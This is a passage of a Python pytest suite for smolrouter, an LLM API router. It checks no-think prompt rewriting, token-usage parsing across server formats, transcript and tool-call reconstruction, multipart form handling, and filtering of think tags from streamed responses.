@pytest.mark.parametrize("path, doc, edits", NO_THINK)
def test_no_think_goes_to_the_user_s_words(path: str, doc: Any, edits: Any) -> None:
    assert smolrouter.no_think_edit(smolrouter.find_protocol(path), doc) == edits


def test_no_think_is_appended_to_the_last_user_message() -> None:
    router = router_filtering(DISABLE_THINKING="true")
    user = {"role": "user", "content": "one"}
    parts = [{"type": "text", "text": "two"}, {"type": "image_url", "image_url": {}}]
    ends = {"role": "assistant", "content": "three"}
    name = default_upstream().add_script(FINE_RESPONSE)
    for messages in ([user, ends, {"role": "user", "content": parts}, ends], [user]):
        request(router.port, "POST", CHAT, {"model": name, "messages": messages})
    request(router.port, "POST", "/v1/completions", {"model": name, "prompt": "four"})
    first, second, third = (received.json for received in default_upstream().requests_for(name))
    told = [{**parts[0], "text": "two /no_think"}, parts[1]]
    assert first["messages"] == [user, ends, {"role": "user", "content": told}, ends]
    assert second["messages"] == [{"role": "user", "content": "one /no_think"}]
    assert third["prompt"] == "four /no_think"


def test_no_think_looks_at_parts_alone() -> None:
    """What is nested deeper is no text of a message; each level would be one more reading."""
    deep: Any = [[]] * 90_000
    for _ in range(180):
        deep = {"text": deep}
    router = shared_router({"DEFAULT_UPSTREAM": sdk_upstream().url, "DISABLE_THINKING": "true"})
    model = sdk_upstream().add_script(json_response(completion({}, HELLO_ANSWER)))
    body = {"model": model, "messages": [*HELLO_MESSAGES, {"role": "user", "content": deep}]}
    assert request(router.port, "POST", CHAT, body, patience=PATIENCE).status == 200
    assert last_request().json["messages"][0]["content"].endswith(" /no_think")


# --- token counts ---------------------------------------------------------------------

USAGE_CASES: list[tuple[Any, tuple[int | None, int | None, int | None]]] = [
    # what an upstream said; prompt, completion, cached
    (b"", (None, None, None)),
    ({"usage": None}, (None, None, None)),
    ({"usage": {"prompt_tokens": 9, "completion_tokens": 12, "total_tokens": 21}}, (9, 12, None)),
    ({"usage": {"prompt_tokens": 9, "completion_tokens": 12,
                "prompt_tokens_details": {"cached_tokens": 4}}}, (9, 12, 4)),
    ({"usage": {"prompt_tokens": 9, "total_tokens": 9}}, (9, None, None)),
    ({"usage": {"total_tokens": 9}}, (9, None, None)),
    ({"usage": {"prompt_tokens": 5, "completion_tokens": 6}, "more": "x" * 40_000}, (5, 6, None)),
    ({"data": [{"embedding": [0.25] * 9000}], "usage": {"prompt_tokens": 5}}, (5, None, None)),
    ({"done": True, "context": [1] * 9000, "prompt_eval_count": 26, "eval_count": 298,
      "prompt_eval_duration": 130079000}, (26, 298, None)),
    ({"choices": [], "timings": {"cache_n": 10, "prompt_n": 1, "predicted_n": 7,
                                 "predicted_ms": 3.5}}, (11, 7, 10)),
    ({"timings": {"prompt_n": 1, "predicted_n": 7},
      "usage": {"prompt_tokens": 12, "completion_tokens": 7}}, (12, 7, None)),
    ({"object": "response", "usage": {
        "input_tokens": 30, "input_tokens_details": {"cached_tokens": 20}, "output_tokens": 5}},
     (30, 5, 20)),
    ({"type": "message", "usage": {"input_tokens": 25, "cache_read_input_tokens": 5,
                                   "cache_creation_input_tokens": 2, "output_tokens": 15}},
     (32, 15, 5)),
    (b"".join(map(encode_event, [
        {"type": "message_start", "message": {"usage": {"input_tokens": 25, "output_tokens": 1}}},
        *[{"type": "content_block_delta", "delta": {"text": "word " * 20}}] * 300,
        {"type": "message_delta", "usage": {"output_tokens": 15}}, {"type": "message_stop"}])),
     (25, 15, None)),
    (b"".join(CLAUDE_EVENTS), (9, 4, None)),
    (b"".join(map(encode_event, [
        *[{"choices": [], "usage": {"prompt_tokens": 7, "completion_tokens": n}} for n in range(5)],
        "[DONE]"])), (7, 4, None)),
    (b"".join(map(encode_event, [
        *[{**text_delta("x"), "usage": None}] * 400, finish_delta(), "[DONE]"])),
     (None, None, None)),
    ({"choices": [{"message": {"content": '{"prompt_tokens": 5, "usage": {"x": 1}}'}}]},
     (None, None, None)),
    ({"usage": {"prompt_tokens": 10**40, "completion_tokens": 1.5}}, (None, None, None)),
    ({"usage": {"prompt_tokens": 12.0, "completion_tokens": 7.0}}, (12, 7, None)),
    (b'{"usage": {"prompt_tokens": 1.000, "completion_tokens": 7.05}}', (1, None, None)),
    (b'{"usage": {"prompt_tokens": 1e3, "completion_tokens": 7.0e1}}', (None, None, None)),
]  # fmt: skip


@pytest.mark.parametrize("said, wanted", USAGE_CASES)
def test_usage_of_every_server(said: Any, wanted: Any) -> None:
    assert smolrouter.read_usage(said if isinstance(said, bytes) else encode_json(said)) == wanted
    if isinstance(said, dict):
        assert smolrouter.read_usage(json.dumps(said, indent=1).encode()) == wanted


# --- conversations --------------------------------------------------------------------


def said_in(document: Any, path: str = "/v1/chat/completions", asked: Any = None) -> list[Any]:
    """Read a transcript; return role, content, thinking and calls of each message."""
    said = document if isinstance(document, bytes) else encode_json(document)
    talk = smolrouter.read_transcript(path, encode_json(asked or {}), said)
    return [
        (
            m["role"],
            m["content"],
            m["thinking"],
            [(c["id"], c["name"], c["arguments"]) for c in m["tool_calls"]],
        )
        for m in talk
    ]


CALL = {"id": "c1", "type": "function", "function": {"name": "f", "arguments": '{"a":1}'}}
TALKS: list[tuple[str, str, Any, Any, list[Any]]] = [
    # what, path, request, answer, transcript
    ("whole", "/v1/chat/completions", chat_document("m", "hi"), completion({}, "Hello"),
     [("user", "hi", "", []), ("assistant", "Hello", "", [])]),
    ("streamed", "/v1/chat/completions", {}, [
        {"choices": [{"index": 0, "delta": {"role": "assistant", "content": ""}}]},
        text_delta("<thi"), text_delta("nk>hm</think>a"), text_delta("b"),
        {"choices": [{"index": 0, "delta": {"reasoning_content": "more"}}]},
        finish_delta(), "[DONE]"],
     [("assistant", "<think>hm</think>ab", "more", [])]),
    ("two choices", "/v1/chat/completions", {}, [
        {"choices": [{"index": i, "delta": {"content": t}}]} for i, t in ((1, "x"), (0, "a"),
                                                                          (1, "y"), (0, "b"))],
     [("assistant", "ab", "", []), ("assistant", "xy", "", [])]),
    ("calls in pieces", "/v1/chat/completions", {}, [
        {"choices": [{"index": 0, "delta": {"tool_calls": [
            {"index": 0, "id": "c1", "function": {"name": "f", "arguments": '{"a'}},
            {"index": 1, "id": "c2", "function": {"name": "g", "arguments": ""}}]}}]},
        {"choices": [{"index": 0, "delta": {"tool_calls": [
            {"index": 0, "function": {"arguments": '":1}'}}]}}]}],
     [("assistant", "", "", [("c1", "f", '{"a":1}'), ("c2", "g", "")])]),
    ("a tool's result", "/v1/chat/completions", {"messages": [
        {"role": "assistant", "content": None, "tool_calls": [CALL]},
        {"role": "tool", "tool_call_id": "c1", "content": "42"}]}, b"",
     [("assistant", "", "", [("c1", "f", '{"a":1}')]), ("tool", "42", "", [])]),
    ("completions", "/v1/completions", {"prompt": ["one", "two"]}, completion({}, "text", "text"),
     [("user", "one", "", []), ("user", "two", "", []), ("assistant", "text", "", [])]),
    ("chat lines", "/api/chat", {"messages": [{"role": "user", "content": "q"}]}, b"".join(
        encode_json(line) + b"\n" for line in (
            {"message": {"role": "assistant", "content": "a", "thinking": "t"}},
            {"message": {"content": "b", "tool_calls": [
                {"function": {"name": "f", "arguments": {"x": 1}}}]}}, {"done": True})),
     [("user", "q", "", []), ("assistant", "ab", "t", [(None, "f", '{"x":1}')])]),
    ("generate", "/api/generate", {"system": "s", "prompt": "p"},
     {"response": "r", "thinking": "t", "done": True},
     [("system", "s", "", []), ("user", "p", "", []), ("assistant", "r", "t", [])]),
    ("messages", "/v1/messages", {"system": [{"type": "text", "text": "s"}], "messages": [
        {"role": "user", "content": [
            {"type": "tool_result", "tool_use_id": "t1",
             "content": [{"type": "text", "text": "9"}]}]}]},
     {"type": "message", "role": "assistant", "content": [
         {"type": "thinking", "thinking": "t"}, {"type": "text", "text": "x"},
         {"type": "tool_use", "id": "t2", "name": "g", "input": {"y": 2}}]},
     [("system", "s", "", []), ("tool", "9", "", []),
      ("assistant", "x", "t", [("t2", "g", '{"y":2}')])]),
    ("streamed messages", "/v1/messages", {}, [
        {"type": "message_start", "message": {"role": "assistant", "content": []}},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "ab"}},
        {"type": "content_block_start", "index": 1,
         "content_block": {"type": "tool_use", "id": "t1", "name": "g", "input": {}}},
        {"type": "content_block_delta", "index": 1,
         "delta": {"type": "input_json_delta", "partial_json": '{"y":'}},
        {"type": "content_block_delta", "index": 1,
         "delta": {"type": "input_json_delta", "partial_json": "2}"}}],
     [("assistant", "ab", "", [("t1", "g", '{"y":2}')])]),
    ("responses", "/v1/responses", {"instructions": "i", "input": [
        {"role": "user", "content": [{"type": "input_text", "text": "q"}]},
        {"type": "function_call", "call_id": "c", "name": "f", "arguments": "{}"},
        {"type": "function_call_output", "call_id": "c", "output": "1"}]},
     {"object": "response", "output": [
         {"type": "reasoning", "summary": [{"type": "summary_text", "text": "t"}]},
         {"type": "message", "role": "assistant", "content": [
             {"type": "output_text", "text": "x"}]}]},
     [("system", "i", "", []), ("user", "q", "", []), ("assistant", "", "", [("c", "f", "{}")]),
      ("tool", "1", "", []), ("assistant", "x", "t", [])]),
    ("streamed responses", "/v1/responses", {"input": "q"}, [
        {"type": "response.created", "response": {"output": []}},
        {"type": "response.output_text.delta", "delta": "x"},
        {"type": "response.completed", "response": {"output": [
            {"type": "message", "content": [{"type": "output_text", "text": "xy"}]}]}}],
     [("user", "q", "", []), ("assistant", "xy", "", [])]),
    ("cut responses", "/v1/responses", {}, [
        {"type": "response.output_text.delta", "delta": "x"},
        {"type": "response.failed", "response": {"output": [], "error": {"message": "no"}}}],
     [("assistant", "x", "", [])]),
    ("unfinished responses", "/v1/responses", {}, [
        {"type": "response.output_text.delta", "delta": "x"},
        {"type": "response.incomplete", "response": {"output": [
            {"type": "message", "content": [{"type": "output_text", "text": "xy"}]}]}}],
     [("assistant", "xy", "", [])]),
    ("reasoning in other shapes", "/v1/responses", {"input": [
        {"type": "reasoning", "id": "r"}, {"role": "user", "content": "q"}]},
     {"object": "response", "output": [
         {"type": "reasoning", "id": "r"}, {"type": "reasoning", "summary": [], "content": [
             {"type": "reasoning_text", "text": "t"}]},
         {"type": "message", "content": [{"type": "output_text", "text": "x"}]}]},
     [("user", "q", "", []), ("assistant", "x", "t", [])]),
    ("results of several tools", "/v1/messages", {"messages": [
        {"role": "assistant", "content": [
            {"type": "tool_use", "id": "t1", "name": "f", "input": {}},
            {"type": "tool_use", "id": "t2", "name": "g", "input": {}}]},
        {"role": "user", "content": [
            {"type": "tool_result", "content": "1", "tool_use_id": "t1"},
            {"tool_use_id": "t2", "type": "tool_result", "content": [
                {"type": "text", "text": "2"}, {"type": "document", "source": {
                    "type": "text", "data": "3"}}]},
            {"type": "text", "text": "go"}, {"type": "text", "text": " on"}]},
        {"role": "user", "content": []}]},
     b"", [("assistant", "", "", [("t1", "f", ""), ("t2", "g", "")]), ("tool", "1", "", []),
           ("tool", "23", "", []), ("user", "go on", "", []), ("user", "", "", [])]),
    ("tools of the server", "/v1/messages", {}, [
        {"type": "content_block_start", "index": 0, "content_block": {
            "type": "server_tool_use", "id": "s1", "name": "web_search", "input": {}}},
        {"type": "content_block_delta", "index": 0,
         "delta": {"type": "input_json_delta", "partial_json": '{"q":1}'}},
        {"type": "content_block_start", "index": 1, "content_block": {
            "type": "web_search_tool_result", "tool_use_id": "s1", "content": [{"title": "t"}]}},
        {"type": "content_block_delta", "index": 2,
         "delta": {"type": "text_delta", "text": "x"}}],
     [("assistant", "x", "", [("s1", "web_search", '{"q":1}')])]),
    ("documents", "/v1/messages", {"messages": [{"role": "user", "content": [
        {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "a"}},
        {"type": "document", "source": {"type": "base64", "media_type": "x/y", "data": "AA=="}},
        {"type": "text", "text": "b"}]}]}, b"", [("user", "ab", "", [])]),
    ("calls of every kind", "/v1/responses", {"input": [
        {"type": "function_call", "call_id": "c1", "name": "add", "namespace": "lab",
         "arguments": "{}"},
        {"type": "function_call_output", "call_id": "c1", "output": [
            {"type": "input_text", "text": "5"}, {"type": "input_text", "text": "6"}]},
        {"type": "custom_tool_call", "call_id": "c2", "name": "apply_patch", "input": "*** Begin"},
        {"type": "custom_tool_call_output", "call_id": "c2", "output": "ok"},
        {"type": "local_shell_call", "call_id": "c3", "action": {"command": ["ls"]}},
        {"type": "web_search_call", "id": "w", "action": {"query": "x"}}]},
     {"output": [{"type": "mcp_call", "id": "m", "name": "f", "arguments": "{}"}]},
     [("assistant", "", "", [("c1", "lab__add", "{}")]), ("tool", "56", "", []),
      ("assistant", "", "", [("c2", "apply_patch", "*** Begin")]), ("tool", "ok", "", []),
      ("assistant", "", "", [("c3", "local_shell", '{"command":["ls"]}')]),
      ("assistant", "", "", [("w", "web_search", '{"query":"x"}')]),
      ("assistant", "", "", [("m", "f", "{}")])]),
    ("calls of a cut stream", "/v1/responses", {}, [
        {"type": "response.output_item.added", "item": {"type": "function_call", "name": "f"}},
        {"type": "response.output_item.done", "item": {
            "type": "function_call", "call_id": "c", "name": "f", "arguments": "{}"}},
        {"type": "response.output_text.delta", "delta": "x"}],
     [("assistant", "x", "", [("c", "f", "{}")])]),
    ("a refusal", "/v1/responses", {}, {"output": [{"type": "message", "role": "assistant",
        "content": [{"type": "refusal", "refusal": "no"}]}]}, [("assistant", "no", "", [])]),
    ("a streamed refusal", "/v1/responses", {}, [
        {"type": "response.refusal.delta", "delta": "n"},
        {"type": "response.refusal.delta", "delta": "o"},
        {"type": "response.refusal.done", "refusal": "no"}], [("assistant", "no", "", [])]),
    ("a refusal in a chat", "/v1/chat/completions", {}, {"choices": [{"index": 0, "message": {
        "role": "assistant", "content": None, "refusal": "no"}}]}, [("assistant", "no", "", [])]),
    ("a streamed refusal in a chat", "/v1/chat/completions", {}, [
        {"choices": [{"index": 0, "delta": {"role": "assistant", "content": "", "refusal": None}}]},
        {"choices": [{"index": 0, "delta": {"refusal": "n"}}]},
        {"choices": [{"index": 0, "delta": {"refusal": "o"}}]}, finish_delta(), "[DONE]"],
     [("assistant", "no", "", [])]),
    ("said again beside an empty delta", "/v1/chat/completions", {}, [
        text_delta("x"), text_delta("y"), {"choices": [
            {"index": 0, "delta": {}, "message": {"content": "xy"}, "finish_reason": "stop"}]}],
     [("assistant", "xy", "", [])]),
    ("no conversation", "/v1/chat/completions", {}, b"\xff\x00", []),
    ("odd shapes", "/v1/chat/completions", {"messages": [5, {"role": "user", "content": 7}]},
     {"choices": [{"index": 0, "message": {"content": {"a": 1}}}]}, None),
]  # fmt: skip


# Fragments of tool calls (index, id, name, arguments), and the calls that they are.
Fragment = tuple[Any, Any, Any, Any]
FRAGMENTS: dict[str, tuple[list[Fragment], list[tuple[Any, Any, str]]]] = {
    "as OpenAI": ([(0, "a", "f", ""), (0, None, None, '{"x"'), (0, None, None, ":1}")],
                  [("a", "f", '{"x":1}')]),
    "in turns": ([(0, "a", "f", "{"), (1, "b", "g", "{"), (0, None, None, "}"),
                  (1, None, None, "}")], [("a", "f", "{}"), ("b", "g", "{}")]),
    "an id each": ([(0, "a", "f", "{"), (0, "b", "", '"x":'), (0, "c", None, "1}")],
                   [("a", "f", '{"x":1}')]),
    "all each": ([(0, "a", "f", "{"), (0, "a", "f", '"x":'), (0, "a", "f", "1}")],
                 [("a", "f", '{"x":1}')]),
    "a name each": ([(0, None, "f", "{"), (0, None, "f", "}")], [(None, "f", "{}")]),
    "one index": ([(0, None, "f", '{"a":1}'), (0, None, "g", '{"a":2}')],
                  [(None, "f", '{"a":1}'), (None, "g", '{"a":2}')]),
    "one index, ids": ([(0, "a", "f", "{"), (0, "b", "f", "{"), (0, "a", None, "}"),
                        (0, "b", None, "}")], [("a", "f", "{}"), ("b", "f", "{}")]),
    "the name later": ([(0, "a", None, ""), (0, None, "f", "{}")], [("a", "f", "{}")]),
    "no index": ([(None, "a", "f", "{"), (None, None, None, "}"), (None, None, "f", "{}")],
                 [("a", "f", "{}"), (None, "f", "{}")]),
    "only arguments": ([(0, None, None, "{}")], [(None, None, "{}")]),
}  # fmt: skip


def call_fragment(index: Any, call_id: Any, name: Any, arguments: Any) -> dict[str, Any]:
    """Make a fragment of a tool call; what is None is left out."""
    function = {"name": name, "arguments": arguments}
    call = {"index": index, "id": call_id, "function": {k: v for k, v in function.items() if v}}
    return {name: value for name, value in call.items() if value is not None}


@pytest.mark.parametrize("fragments, wanted", FRAGMENTS.values(), ids=FRAGMENTS)
@pytest.mark.parametrize("together", [False, True])
def test_calls_of_fragments(fragments: list[Fragment], wanted: Any, together: bool) -> None:
    calls = [call_fragment(*fragment) for fragment in fragments]
    batches = [calls] if together else [[call] for call in calls]
    events = [chat_chunk({}, {"tool_calls": batch}) for batch in batches]
    data = b"".join(map(encode_event, [*events, finish_delta("tool_calls"), "[DONE]"]))
    ((_, _, _, transcript),) = said_in(data)
    assert transcript == wanted
    # A client that speaks as the server does gets them as they come.
    assert filtered([data]) == data
    for stream in (False, True):
        found = []
        for line in translated([data], stream, {}):
            found += line["message"].get("tool_calls", [])
        assert [call["function"] for call in found] == [
            {"name": name or "", "arguments": json.loads(arguments)}
            for _, name, arguments in wanted
        ]


@pytest.mark.parametrize("index", [None, 0])
@pytest.mark.parametrize("arguments", ['{"a":1}', {"a": 1}])
def test_calls_of_a_message_are_whole(index: Any, arguments: Any) -> None:
    calls = [call_fragment(index, None, "f", arguments)] * 2
    document = {"choices": [{"message": {"tool_calls": calls}, "finish_reason": "tool_calls"}]}
    ((_, _, _, found),) = said_in(document)
    assert found == [(None, "f", '{"a":1}')] * 2
    got = translated_document(document)
    assert got["message"]["tool_calls"] == [{"function": {"name": "f", "arguments": {"a": 1}}}] * 2


@pytest.mark.parametrize("what, path, asked, answer, wanted", TALKS, ids=[t[0] for t in TALKS])
def test_transcripts(what: str, path: str, asked: Any, answer: Any, wanted: Any) -> None:
    said = b"".join(map(encode_event, answer)) if isinstance(answer, list) else answer
    found = said_in(said, path, asked)
    # They stand in the order in which they began, and in the table by their texts.
    if what == "two choices":
        found.sort()
    assert wanted is None or found == wanted


def test_a_tool_s_result_has_the_name_of_the_tool() -> None:
    for path, document in (
        (CHAT, {"messages": [{"role": "assistant", "tool_calls": [CALL]},
                             {"role": "tool", "tool_call_id": "c1", "content": "1"}]}),
        (RESPONSES, {"input": [call_of("f"), {"type": "function_call_output", "call_id": "c",
                                              "output": "1"}]}),
        (ANTHROPIC, {"messages": [
            {"role": "assistant", "content": [{"type": "tool_use", "id": "c1", "name": "f"}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "c1"}]}]}),
    ):  # fmt: skip
        talk = smolrouter.read_transcript(path, encode_json(document), b"")
        assert (talk[-1]["role"], talk[-1]["name"]) == ("tool", "f")


def test_pictures_of_a_transcript() -> None:
    url = "data:image/png;base64,iVBORw0KGgo="
    parts = [{"type": "text", "text": "look"}, {"type": "image_url", "image_url": {"url": url}}]
    asked = [
        ("/v1/chat/completions", {"messages": [{"role": "user", "content": parts}]}),
        ("/api/chat", {"messages": [{"role": "user", "content": "look",
                                     "images": ["iVBORw0KGgo="]}]}),
        ("/api/generate", {"prompt": "look", "images": ["iVBORw0KGgo="]}),
        ("/v1/messages", {"messages": [{"role": "user", "content": [
            {"type": "text", "text": "look"}, {"type": "image", "source": {
                "type": "base64", "media_type": "image/png", "data": "iVBORw0KGgo="}}]}]}),
        ("/v1/responses", {"input": [{"role": "user", "content": [
            {"type": "input_text", "text": "look"}, {"type": "input_image", "image_url": url}]}]}),
    ]  # fmt: skip
    for path, document in asked:
        (message,) = smolrouter.read_transcript(path, encode_json(document), b"")
        assert (message["content"], message["images"]) == ("look", [url]), path
        assert message["image_at"] == [4], path


# ======================================================================================
# 8  Dialects
# ======================================================================================
# Requests and answers on values; then the official clients in front of every kind of server.

# --- forms ----------------------------------------------------------------------------

NAMED = b'Content-Disposition: form-data; name="model"\r\n\r\n'
FILE = b'Content-Disposition: form-data; name="file"; filename="%s"\r\n\r\n'
MODEL_FORMS = {
    "plain": (b"--XX\r\n" + NAMED + b"m\r\n--XX--\r\n", "m"),
    "type first": (b"--XX\r\nContent-Type: text/plain\r\n" + NAMED + b"m\r\n--XX--", "m"),
    "after a file": (b"--XX\r\n" + FILE % b"a" + b"x\r\n--XX\r\n" + NAMED + b"m\r\n--XX--", "m"),
    "file's name": (b"--XX\r\n" + FILE % b"a; name=model" + b"x\r\n--XX--", ""),
    "preamble": (b"a -- b\r\n--XX\r\n" + NAMED + b"m\r\n--XX--", "m"),
    "boundary inside a line": (
        b"--XX\r\n" + FILE % b"a" + b"say --XX\r\n" + NAMED + b"evil\r\n--XX--", ""),
    "unquoted, folded case": (
        b"--XX\r\nCONTENT-DISPOSITION: form-data; NAME=model\r\n\r\nm\r\n--XX--", "m"),
    "nothing": (b"--XX--\r\n", ""),
}  # fmt: skip


@pytest.mark.parametrize("content, model", MODEL_FORMS.values(), ids=MODEL_FORMS.keys())
@pytest.mark.parametrize("boundary", ["boundary=XX", 'charset=x; boundary="XX"'])
def test_form_names_its_model(content: bytes, model: str, boundary: str) -> None:
    ask = smolrouter.read_form(f"multipart/form-data; {boundary}", "/v1/x", "", content)
    assert (ask.model, ask.content) == (model, content)
    renamed = smolrouter.encode_form(ask, smolrouter.RequestChanges("new"))
    assert renamed == content.replace(b"\r\n\r\nm\r\n", b"\r\n\r\nnew\r\n")


@fuzz(
    lambda st: {
        "bits": lists_of_bits(
            st,
            [
                b"--b",
                b"\r\n",
                b"--",
                b'Content-Disposition: form-data; name="model"',
                b"\r\n\r\n",
                b"tiny",
                b'; filename="',
                b'"',
                b"name=model",
                b"\\",
                b"content-disposition:",
            ],
            20,
        ),
        "kind": st.sampled_from(["multipart/form-data; boundary=b", 'x; boundary="b"', "x", ";"]),
    }
)
def test_fuzz_forms(bits: list[bytes], kind: str) -> None:
    """A form that needs no change is not changed; its model is where it says."""
    content = b"--b" + b"".join(bits)
    with contextlib.suppress(smolrouter.MalformedContent):
        ask_ = smolrouter.read_form(kind, "/v1/x", "", content)
        same = smolrouter.encode_form(ask_, smolrouter.RequestChanges(ask_.model))
        assert same == content
        assert content[slice(*ask_.model_span)].decode("utf-8", "replace") == ask_.model


def parse_form(heard: Received) -> dict[str, bytes]:
    """Return the parts of a form by their names; of one name the last part counts."""
    top = f"Content-Type: {heard.get('Content-Type')}\r\n\r\n".encode()
    parts: Any = email.message_from_bytes(top + heard.content).get_payload()
    names = [part.get_param("name", header="Content-Disposition") for part in parts]
    contents = [part.get_payload(decode=True) for part in parts]
    return dict(zip(names, contents, strict=True))


def encode_form(*parts: tuple[str, bytes]) -> bytes:
    """Encode a form whose parts have these parameters of Content-Disposition and these contents."""
    top = b"--XX\r\nContent-Disposition: form-data; "
    pieces = [top + b"%s\r\n\r\n%s\r\n" % (d.encode(), content) for d, content in parts]
    return b"".join(pieces) + b"--XX--\r\n"


MODEL_PART = ('name="model"', b"rule-talk")
FILE_PART = ('name="file"; filename="a.wav"\r\nContent-Type: audio/wav', SOUND)
FORMS = {
    "model first": encode_form(MODEL_PART, FILE_PART),
    "model last": encode_form(FILE_PART, MODEL_PART),
    "model with a type": encode_form(
        ('name="model"\r\nContent-Type: text/plain', b"rule-talk"), FILE_PART
    ),
    "a file that names a model": encode_form(
        ('name="file"; filename="model"', b'name="model"\r\n\r\nrule-talk\r\n--X'), MODEL_PART
    ),
    "a file that talks of boundaries": encode_form(
        ('name="file"; filename="f"', b"\r\n--XY\r\n--X\r\nXX--"), MODEL_PART
    ),
    "an empty file": encode_form(('name="file"; filename=""', b""), MODEL_PART),
    "odd case": encode_form(MODEL_PART).replace(
        b"Content-Disposition: form-data", b"content-DISPOSITION:form-data"
    ),
}


@pytest.mark.parametrize("content", FORMS.values(), ids=FORMS)
@pytest.mark.parametrize("boundary", ("XX", '"XX"'))
def test_form_differs_by_its_model_only(content: bytes, boundary: str) -> None:
    kind = f"multipart/form-data; boundary={boundary}"
    got = post_json("/v1/audio/transcriptions", content, Content_Type=kind)
    assert (got.status, got.json) == (200, {"text": "heard"})
    at = content.rindex(b"rule-talk")
    assert last_request().content == content[:at] + b"talk" + content[at + 9 :]


def test_form_with_two_models_is_refused() -> None:
    content = encode_form(MODEL_PART, FILE_PART, ('name="model"', b"talk"))
    kind = "multipart/form-data; boundary=XX"
    with nothing_sent_upstream():
        got = post_json("/v1/audio/transcriptions", content, Content_Type=kind)
    assert (got.status, b"two `model` members" in got.content) == (400, True)


def test_form_without_change_is_not_changed() -> None:
    content = encode_form(('name="model"', b"talk"), FILE_PART)
    kind = "multipart/form-data; boundary=XX"
    assert post_json("/v1/audio/transcriptions", content, Content_Type=kind).status == 200
    assert last_request().content == content
    assert last_request().get("Content-Type") == kind


@each_way
@each_openai
def test_openai_transcription(sdk: Sdk, way: str) -> None:
    got = sdk.call(
        sdk_router().url,
        "audio.transcriptions.create",
        model=f"{way}-talk",
        file=("voice.wav", SOUND),
        language="en",
    )
    assert got.text == "heard"
    form = parse_form(last_request())
    assert (form["model"], form["language"]) == (b"talk", b"en")
    assert form["file"] == SOUND


@each_way
@each_openai
def test_openai_image_edit(sdk: Sdk, way: str) -> None:
    got = sdk.call(
        sdk_router().url,
        "images.edit",
        model=f"{way}-talk",
        prompt="a hat \u2728",
        image=[(f"{kind}.{kind}", data) for kind, data in PICTURES.items()],
    )
    assert got.data[0].b64_json == "UE5H"
    form = parse_form(last_request())
    assert (form["model"], form["prompt"]) == (b"talk", "a hat \u2728".encode())
    assert form["image[]"] == PICTURES["webp"]


# --- rewriters, on values ------------------------------------------------------------


def texts_in(content: bytes, *path: str | int) -> str:
    """The texts at one place of all events that have it."""
    found = ""
    for line in content.splitlines():
        with contextlib.suppress(ValueError, LookupError, TypeError):
            value = json.loads(line.removeprefix(b"data:"))
            for key in path:
                value = value[key]
            found += value or ""
    return found


def cumulative_deltas(*texts: str) -> list[Any]:
    """Events of a chat that say beside each delta all of the message until then."""
    events = []
    for number, event in enumerate([*text_deltas(*texts), finish_delta()]):
        choice = event["choices"][0]
        events.append(
            {"choices": [{**choice, "message": {"content": "".join(texts[: number + 1])}}]}
        )
    return events


def block_deltas(*texts: str) -> list[Any]:
    """Events of /v1/messages with these texts in two blocks, and what is around them."""
    start = {"type": "content_block_start", "content_block": {"type": "text", "text": ""}}
    events: list[Any] = [{"type": "message_start", "message": {"content": []}}]
    for index in (0, 1):
        events.append({**start, "index": index})
        for text in texts:
            delta = {"type": "text_delta", "text": text}
            events.append({"type": "content_block_delta", "index": index, "delta": delta})
        events.append({"type": "content_block_stop", "index": index})
    return [*events, {"type": "message_stop"}]


def response_deltas(*texts: str) -> list[Any]:
    """Events of /v1/responses with these texts, and then all of them again, as it does."""
    said = [{"type": "response.output_text.delta", "item_id": "m", "delta": text} for text in texts]
    whole = {"type": "output_text", "text": "".join(texts)}
    item = {"type": "message", "content": [whole]}
    return [
        {"type": "response.created", "response": {"output": []}},
        *said,
        {"type": "response.output_text.done", "item_id": "m", "text": "".join(texts)},
        {"type": "response.content_part.done", "part": whole},
        {"type": "response.output_item.done", "item": item},
        {"type": "response.completed", "response": {"output": [item]}},
    ]


TAGGED = ("<thi", "nk>no</th", "ink>\n\n", "yes", " <b", ">")
SHOWN_TEXT = "yes <b>"
FILTERED_STREAMS: dict[str, tuple[str, list[Any], tuple[str | int, ...], str]] = {
    # path, events, where in them texts stand, what is left there
    "chat": (CHAT, [*text_deltas(*TAGGED), "[DONE]"], ("choices", 0, "delta", "content"),
             SHOWN_TEXT),
    "chat, all again": (CHAT, [*cumulative_deltas(*TAGGED), "[DONE]"],
                        ("choices", 0, "delta", "content"), SHOWN_TEXT),
    "two choices": (CHAT, [e for pair in zip(text_deltas(*TAGGED), text_deltas(*TAGGED, index=1))
                           for e in pair] + ["[DONE]"],
                    ("choices", 0, "delta", "content"), "yesyes <b <b>>"),
    "completions": ("/v1/completions",
                    [{"choices": [{"index": 0, "text": text}]} for text in TAGGED] + ["[DONE]"],
                    ("choices", 0, "text"), SHOWN_TEXT),
    "blocks": ("/v1/messages", block_deltas(*TAGGED), ("delta", "text"), SHOWN_TEXT * 2),
    "responses": ("/v1/responses", response_deltas(*TAGGED), ("delta",), SHOWN_TEXT),
    "said again": ("/v1/responses", response_deltas(*TAGGED),
                   ("response", "output", 0, "content", 0, "text"), SHOWN_TEXT),
    "another path": ("/v1/unheard-of", text_deltas(*TAGGED), ("choices", 0, "delta", "content"),
                     SHOWN_TEXT),
}  # fmt: skip


@pytest.mark.parametrize("case", FILTERED_STREAMS.values(), ids=FILTERED_STREAMS)
def test_texts_of_every_protocol_are_filtered(case: Any) -> None:
    path, events, place, shown = case
    data = b"".join(map(encode_event, events))
    left = filtered([data], path=path)
    assert texts_in(left, *place) == shown
    assert b"think" not in left and b"no</" not in left
    for pieces in every_split(data):
        assert filtered(pieces, path=path) == left


def test_how_many_answers_are_asked_for() -> None:
    for more, choices in (
        ({"prompt": "a"}, 1), ({"prompt": ["a", "b"], "n": 2}, 4), ({"n": 3}, 3),
        ({"prompt": [1, 2, 3]}, 1), ({"prompt": [[1, 2], [3]]}, 2), ({"prompt": None}, 1),
    ):  # fmt: skip
        content = encode_json({"model": "m", **more})
        assert smolrouter.read_object("/v1/completions", "", content).choices == choices


@pytest.mark.parametrize("path, key", [("/api/chat", "message"), ("/api/generate", "response")])
def test_lines_are_filtered_and_name_the_model_that_was_asked_for(path: str, key: str) -> None:
    place = ("message", "content") if key == "message" else ("response",)
    lines: list[Any] = [
        {"model": "theirs", key: {"role": "assistant", "content": t} if len(place) == 2 else t,
         "done": False}
        for t in TAGGED
    ]  # fmt: skip
    lines.append({"model": "theirs", key: {"content": ""} if len(place) == 2 else "", "done": True})
    data = b"".join(encode_json(line) + b"\n" for line in lines)
